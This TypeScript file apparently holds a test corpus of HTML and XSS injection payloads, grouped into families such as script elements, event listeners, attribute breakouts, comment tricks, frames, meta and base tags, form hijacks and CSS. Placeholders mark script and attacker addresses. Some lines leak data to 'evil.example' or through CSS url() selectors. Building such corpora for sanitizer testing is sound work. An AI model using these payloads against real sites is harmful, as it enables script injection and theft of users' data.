import type { Family } from "./corpus.ts";

// Words that try to become elements. § stands for the script that would run, ¤ for an address that would be asked for.

const gaps = [" ", "/", "\t", "\n", "\f", " x "];
const around = ["", '"', "'", "`"];

/** Each element with something that happens to it by itself, or as soon as somebody comes near. */
const happenings =
  "img src=x|onerror;img src=¤|onload;svg|onload;body|onload;input autofocus|onfocus;details open|ontoggle;video src=x|onerror;audio src=x|onerror;select autofocus|onfocus;textarea autofocus|onfocus;p tabindex=1 autofocus|onfocus;a href=#|onclick;div|onmouseover;button popovertarget=p|onclick;div popover id=p|onbeforetoggle;form|onsubmit;iframe|onload;object data=x|onerror;style|onload;link rel=stylesheet href=¤|onerror;source src=x|onerror;track src=x|onerror;marquee|onstart;dialog open|oncancel;x|onpointerrawupdate;p|onanimationstart;p|ontransitionend;b|oncontentvisibilityautostatechange;body|onpageshow;body|onhashchange;isindex|onfocus;meter|onpointerenter".split(
    ";",
  );

const rawElements =
  "title textarea style noscript template xmp iframe noembed noframes select option button a p table svg math script head body html main".split(
    " ",
  );

export const markup: readonly Family[] = [
  [
    "script elements",
    [
      "<script>§</script>",
      "<ScRiPt>§</sCrIpT>",
      "<script\t>§</script\n>",
      "<script/x>§</script/x>",
      "<script type=module>§</script>",
      "<script async src=¤></script>",
      '<script src="//evil.example¤"></script>',
      "<scr<script>ipt>§</scr</script>ipt>",
      "<<script>§//<</script>",
      "<script>§",
      "</script><script>§</script>",
      "<script>/*<!--*/§//--></script>",
      "<svg><script>§</script></svg>",
      "<svg><script href=¤ /></svg>",
      "<script x='>'>§</script>",
      "<script\f>§</script>",
      "<\u0000script>§</script>",
      "<script>\u2028§\u2029</script>",
    ],
  ],
  [
    "listeners",
    happenings.map((one, at) => {
      const [element = "", event = ""] = one.split("|");
      const quote = around[at % around.length] ?? "";
      return `<${element}${gaps[at % gaps.length]}${event}=${quote}§${quote}>`;
    }),
  ],
  [
    "ends of attributes",
    [
      '" onfocus=§ autofocus x="',
      "' onmouseover='§",
      '"><img src=¤>',
      "'><img src=x onerror=§>",
      '"/><svg onload=§>',
      '" autofocus onfocus="§',
      '\\" onload=§ //',
      "&quot; onfocus=§ x=&quot;",
      '" formaction="javascript:§',
      '" srcdoc="<script>§</script>',
      '"onpointerenter=§ ',
      '"\nonclick="§',
      '" href="javascript:§" x="',
      "` onload=`§",
      '" action="javascript:§',
      '" style="background:url(¤)" x="',
      '"autofocus/onfocus="§"',
      "'\"><script>§</script>",
      "\">' ><img src=x onerror=§>",
      ">\" '><svg/onload=§>",
    ],
  ],
  [
    "ends of elements",
    rawElements.flatMap((name, at) => [
      `</${name}><script>§</script>`,
      `</${name.toUpperCase()}${gaps[at % gaps.length]}><img src=x onerror=§>`,
    ]),
  ],
  [
    "comments and what is like them",
    [
      "--><script>§</script>",
      "--!><script>§</script>",
      "<!--><script>§</script>-->",
      "<!---><img src=x onerror=§>-->",
      '<!-- <p title="--><script>§</script>"> -->',
      "<!--[if gte IE 4]><script>§</script><![endif]-->",
      "<![CDATA[<script>§</script>]]>",
      "]]><script>§</script>",
      '<?xml version="1.0"?><script>§</script>',
      '<?x a="><script>§</script>">',
      '<! x="><script>§</script>">',
      '</ x="><script>§</script>">',
      "<%><script>§</script>%>",
      '<!DOCTYPE x [<!ENTITY y "<script>§</script>">]>&y;',
      "<!-- --\u0021><svg onload=§> -->",
    ],
  ],
  [
    "frames and plug-ins",
    [
      '<iframe src="javascript:§"></iframe>',
      '<iframe srcdoc="<script>parent.§</script>"></iframe>',
      "<iframe srcdoc='&lt;script&gt;parent.§&lt;/script&gt;'>",
      "<iframe src=¤></iframe>",
      '<object data="javascript:§"></object>',
      '<object data="data:text/html,<script>opener.§</script>">',
      '<embed src="javascript:§">',
      "<embed src=¤ type=text/html>",
      '<frameset onload="§"><frame src=¤>',
      "<applet code=¤ archive=¤></applet>",
      "<portal src=¤>",
      "<fencedframe src=¤></fencedframe>",
    ],
  ],
  [
    "what is said about the page",
    [
      '<meta http-equiv="refresh" content="0;url=¤">',
      '<meta http-equiv=refresh content="0;javascript:§">',
      '<meta http-equiv="set-cookie" content="landfall=¤">',
      '<meta http-equiv="Content-Security-Policy" content="script-src *">¤',
      '<meta charset="utf-7">+ADw-script+AD4-§+ADw-/script+AD4-',
      '<base href="//evil.example¤">',
      "<base target=¤>",
      "<link rel=stylesheet href=¤>",
      "<link rel=preload as=script href=¤>",
      "<link rel=prefetch href=¤>",
      "<link rel=dns-prefetch href=//evil.example¤>",
      "<link rel=import href=¤>",
      '<link rel="icon" href=¤>',
      '<script type="speculationrules">{"prerender":[{"urls":["¤"]}]}</script>',
      '<script type="importmap">{"imports":{"a":"¤"}}</script>',
      "<link rel=manifest href=¤>",
    ],
  ],
  [
    "forms of others",
    [
      '<form action="javascript:§"><input type=submit autofocus>',
      '<form id=f></form><button form=f formaction="javascript:§">Go on</button>',
      "<form action=//evil.example¤><input name=code>",
      '<input type=image src=¤ onerror="§">',
      "</form><form action=¤ method=post>",
      '<button formaction="java&Tab;script:§">Send</button>',
      "<textarea name=stolen form=f><form id=f action=¤>",
      "<select onfocus=§ autofocus><option>",
      '<isindex action="javascript:§" type=image>',
      "<keygen autofocus onfocus=§>",
    ],
  ],
  [
    "style",
    [
      "<style>@import '¤';</style>",
      "<style>*{background:url(¤)}</style>",
      "<p style=background:url(¤)>",
      '<p style="width:expression(§)">',
      '<p style="-moz-binding:url(¤)">',
      "<style>input[value^=a]{background:url(¤)}</style>",
      "<style><img title='</style><img src=x onerror=§>'></style>",
      "</style><style>@font-face{font-family:x;src:url(¤)}</style>",
      '<div style="behavior:url(¤)">',
      "<style>p{animation:x 1s}@keyframes x{}</style><p onanimationend=§>",
    ],
  ],
];
